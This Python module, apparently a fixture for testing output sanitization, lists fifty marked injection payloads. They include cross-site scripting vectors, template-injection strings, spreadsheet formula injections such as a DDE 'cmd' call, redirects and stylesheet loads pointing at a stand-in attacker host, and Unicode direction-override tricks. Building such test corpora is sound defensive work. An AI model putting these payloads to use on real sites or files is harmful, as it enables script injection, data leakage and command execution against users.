"""Fifty strings that want to be more than text, each with a marker by which it is found again."""

SHAPES = [
    "<script>hinomiRan()</script>{m}",
    "<img src=x onerror=hinomiRan()>{m}",
    "<svg onload=hinomiRan()>{m}",
    "<svg><script>hinomiRan()</script></svg>{m}",
    "\"><script>hinomiRan()</script>{m}",
    "'><img src=x onerror=hinomiRan()>{m}",
    "\" onmouseover=\"hinomiRan()\" x=\"{m}",
    "' onfocus='hinomiRan()' autofocus='{m}",
    "` onclick=`hinomiRan()` {m}",
    "javascript:hinomiRan()//{m}",
    "JaVaScRiPt:hinomiRan()//{m}",
    "data:text/html,<script>hinomiRan()</script>{m}",
    "vbscript:hinomiRan() {m}",
    "</textarea><script>hinomiRan()</script>{m}",
    "</title><script>hinomiRan()</script>{m}",
    "</style><script>hinomiRan()</script>{m}",
    "--><script>hinomiRan()</script>{m}",
    "<!--<img src=\"--><img src=x onerror=hinomiRan()//\">{m}",
    "<iframe srcdoc=\"<script>parent.hinomiRan()</script>\"></iframe>{m}",
    "<iframe src=javascript:hinomiRan()></iframe>{m}",
    "<object data=javascript:hinomiRan()></object>{m}",
    "<embed src=javascript:hinomiRan()>{m}",
    "<a href=javascript:hinomiRan()>{m}</a>",
    "<form action=javascript:hinomiRan()><button>{m}</button></form>",
    "<base href=https://attacker.example/>{m}",
    "<meta http-equiv=refresh content=0;url=https://attacker.example/>{m}",
    "<link rel=stylesheet href=https://attacker.example/x.css>{m}",
    "<style>@import'https://attacker.example/x.css';</style>{m}",
    "<div style=\"background:url(https://attacker.example/)\">{m}</div>",
    "<math><mtext><script>hinomiRan()</script></mtext></math>{m}",
    "<details open ontoggle=hinomiRan()>{m}</details>",
    "<video><source onerror=hinomiRan()></video>{m}",
    "<input autofocus onfocus=hinomiRan()>{m}",
    "<marquee onstart=hinomiRan()>{m}</marquee>",
    "<template><script>hinomiRan()</script></template>{m}",
    "{{{{constructor.constructor('hinomiRan()')()}}}} {m}",
    "${{hinomiRan()}} {m}",
    "<%= hinomiRan() %> {m}",
    "\\u003cscript\\u003ehinomiRan()\\u003c/script\\u003e {m}",
    "&lt;script&gt;hinomiRan()&lt;/script&gt; {m}",
    "&#60;script&#62;hinomiRan()&#60;/script&#62; {m}",
    "=HYPERLINK(\"https://attacker.example/\",\"{m}\")",
    "=cmd|' /C calc'!A0 {m}",
    "+1+1 {m}",
    "-2+3+cmd|' /C calc'!A0 {m}",
    "@SUM(1+1) {m}",
    "{m} \u202egpj.exe\u202c",
    "{m} \u2066\u2069 \ufeff zero\u200bwidth",
    "https://attacker.example/{m}",
    "[{m}](javascript:hinomiRan())",
]


def strings():
    """[(text, marker)]"""
    return [(shape.format(m=f"mark{i:02d}x"), f"mark{i:02d}x") for i, shape in enumerate(SHAPES)]


assert len(SHAPES) == 50
